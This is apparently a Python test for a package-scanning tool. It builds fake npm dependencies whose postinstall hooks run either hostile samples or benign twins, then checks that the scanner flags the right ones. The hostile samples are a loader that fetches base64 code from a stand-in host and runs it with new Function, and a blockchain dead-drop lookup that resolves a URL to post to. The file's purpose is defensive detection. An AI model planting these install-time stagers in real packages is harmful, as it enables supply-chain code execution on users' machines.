"""One scan of packages that ask services and decode what they fetch, beside their honest twins."""

from __future__ import annotations

from pathlib import Path

from tests.support.hunter import project_with, scan_json
from tests.support.requires import needs_btf, needs_runc

_RPC = """
const ask = (method, params) => fetch("https://rpc.nodes.example/", {method: "POST", body:
  JSON.stringify({jsonrpc: "2.0", id: 1, method, params})}).then(r => r.json()).then(r => r.result);
"""
_CHAIN = (
    _RPC
    + """
(async () => {
  const raw = Buffer.from((await ask("eth_call", [{to: "0x1b", data: "0x6d4ce63c"}, "latest"])).slice(2), "hex");
  const url = raw.subarray(64, 64 + Number(raw.readBigUInt64BE(56))).toString();
  await (await fetch(url, {method: "POST", body: "hello"})).text();
})();
"""
)
_WALLET = _RPC + 'ask("eth_blockNumber", []).then(n => console.log(Number(n)));'
_LOADER = """
fetch("https://config.loader.example/v2/settings").then(r => r.text()).then(t => {
  const stage = JSON.parse(t).widget;
  new Function("require", Buffer.from(stage, "base64").toString())(require);
}).catch(() => {});
"""
_GEO = 'fetch("http://ip-api.com/json/").then(r => r.json()).then(p => console.log(p.countryCode));'


def test_services_and_stages(tmp_path: Path) -> None:
    needs_btf()
    needs_runc()
    works = {"chained": _CHAIN, "wallet": _WALLET, "loader": _LOADER, "geo": _GEO}
    app = project_with(tmp_path / "app", **{name: {"postinstall": "node work.js"} for name in works})
    for name, text in works.items():
        (app / "deps" / name / "work.js").write_text(text)
    report = scan_json(app, "--depth", "standard", "--worlds", "default", timeout=400, codes=(0, 1))
    found = {
        (f["kind"], (f["blame"]["package"] or "").partition("@")[0].rpartition("/")[2])
        for f in report["findings"]
    }
    assert ("dead_drop", "chained") in found
    assert ("remote_code_execution", "loader") in found, (found, report["coverage"]["notes"])
    accused = {(kind, name) for kind, name in found if name in ("wallet", "geo")}
    assert not accused & {(kind, name) for kind in ("dead_drop", "remote_code_execution", "exfiltration")
                          for name in ("wallet", "geo")}  # fmt: skip
    told = [f for f in report["findings"] if f["kind"] == "remote_code_execution"]
    assert any("answered as json+base64" in line for f in told for line in f["explain"])
